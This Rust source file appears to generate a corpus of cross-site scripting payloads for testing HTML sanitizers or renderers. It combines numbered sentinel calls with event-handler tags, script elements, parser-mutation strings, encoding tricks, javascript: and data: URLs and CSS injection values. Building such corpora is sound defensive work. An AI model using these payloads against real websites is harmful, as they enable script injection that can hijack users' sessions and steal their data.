//! Texts that would run if they came into a page as more than text. Made from a grammar: what to run, and what to wrap it
//! in.

/// Each says its number to the sentinel.
const DEEDS: [&str; 4] = ["__xss(N)", "alert(N)", "top['__xs'+'s'](N)", "setTimeout('__xss(N)')"];

const HANDLERS: [&str; 22] = [
    "<img src=x onerror=D>",
    "<img/src/onerror=D>",
    "<IMG SRC=x OnErRoR=\"D\">",
    "<img src=x onerror\t=\nD>",
    "<svg onload=D>",
    "<svg/onload=D//",
    "<svg><animate onbegin=D attributeName=x dur=1s>",
    "<svg><set onbegin=D attributename=x>",
    "<body onload=D>",
    "<details open ontoggle=D>x</details>",
    "<video><source onerror=D></video>",
    "<audio src=x onerror=D>",
    "<input autofocus onfocus=D>",
    "<select autofocus onfocus=D></select>",
    "<textarea autofocus onfocus=D></textarea>",
    "<marquee onstart=D>x</marquee>",
    "<iframe onload=D></iframe>",
    "<object data=x onerror=D></object>",
    "<style onload=D></style>",
    "<link rel=stylesheet href=/x onerror=D>",
    "<x tabindex=1 autofocus onfocus=D>",
    "<div style='animation:x 1s' onanimationstart=D>x</div>",
];

const ELEMENTS: [&str; 18] = [
    "<script>D</script>",
    "<ScRiPt>D</sCrIpT>",
    "<script\n>D</script\n>",
    "<script/x>D</script>",
    "<svg><script>D</script></svg>",
    "<svg><script href='data:text/javascript,D'/></svg>",
    "<script src='data:text/javascript,D'></script>",
    "<iframe srcdoc='<script>parent.D</script>'></iframe>",
    "<iframe src='javascript:D'></iframe>",
    "<object data='javascript:D'></object>",
    "<embed src='javascript:D'>",
    "<form action='javascript:D'><button autofocus>x</button></form>",
    "<button formaction='javascript:D' autofocus>x</button>",
    "<math href='javascript:D'>x</math>",
    "<svg><a xlink:href='javascript:D'><text>x</text></a></svg>",
    "<base href='javascript:D//'>",
    "<meta http-equiv=refresh content='0;url=javascript:D'>",
    "<template><script>D</script></template>",
];

/// What a parser reads once so and once so.
const MUTATIONS: [&str; 14] = [
    "<noscript><p title=\"</noscript><img src=x onerror=D>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=D></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=D>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=D>",
    "<title><a title=\"</title><img src=x onerror=D>\"></title>",
    "<textarea></textarea><img src=x onerror=D></textarea>",
    "<xmp><p title=\"</xmp><svg/onload=D>\"></xmp>",
    "<!--><img src=x onerror=D>-->",
    "<![CDATA[><img src=x onerror=D>]]>",
    "\"><img src=x onerror=D>",
    "'><img src=x onerror=D>",
    "` onerror=D x=`",
    "--!><svg onload=D>",
    "</title></style></textarea></script><svg/onload=D>",
];

const TRICKS: [&str; 12] = [
    "＜img src=x onerror=D＞",
    "\u{202e}<img src=x onerror=D>",
    "<img\u{a0}src=x\u{3000}onerror=D>",
    "\u{feff}<script>D</script>",
    "<scr\u{0131}pt>D</script>",
    "&lt;img src=x onerror=D&gt;",
    "&#60;script&#62;D&#60;/script&#62;",
    "\\u003cimg src=x onerror=D\\u003e",
    "{{constructor.constructor('D')()}}",
    "${D}",
    "<%= D %>",
    "javascript:/*--></title></style></textarea></script><svg/onload='D'>*/D",
];

const ADDRESSES: [&str; 20] = [
    "javascript:D",
    "JaVaScRiPt:D",
    " javascript:D",
    "\u{1}javascript:D",
    "java\tscript:D",
    "java\nscript:D",
    "javascript\u{200b}:D",
    "javascript&colon;D",
    "javascript&#58;D",
    "javascript://https://gongbei.test/%0aD",
    "//javascript:D",
    "https:javascript:D",
    "data:text/html,<script>D</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='D'/>",
    "vbscript:D",
    "blob:D",
    "filesystem:D",
    "view-source:javascript:D",
    "feed:javascript:D",
];

const STYLES: [&str; 8] = [
    "red;background:url(javascript:D)",
    "red;background-image:url('//127.0.0.1:1/D')",
    "expression(D)",
    "red}</style><script>D</script>",
    "url(javascript:D)",
    "#123456\";onmouseover=\"D",
    "red;behavior:url(#D)",
    "var(--x,url(javascript:D))",
];

/// All of them: markup first, then addresses, then values for styles.
pub fn all() -> Vec<String> {
    let shapes = [&HANDLERS[..], &ELEMENTS, &MUTATIONS, &TRICKS, &ADDRESSES, &STYLES].concat();
    let mut payloads = Vec::new();
    for deed in DEEDS {
        for shape in &shapes {
            let number = payloads.len().to_string();
            payloads.push(shape.replace('D', &deed.replace('N', &number)));
        }
    }
    payloads
}
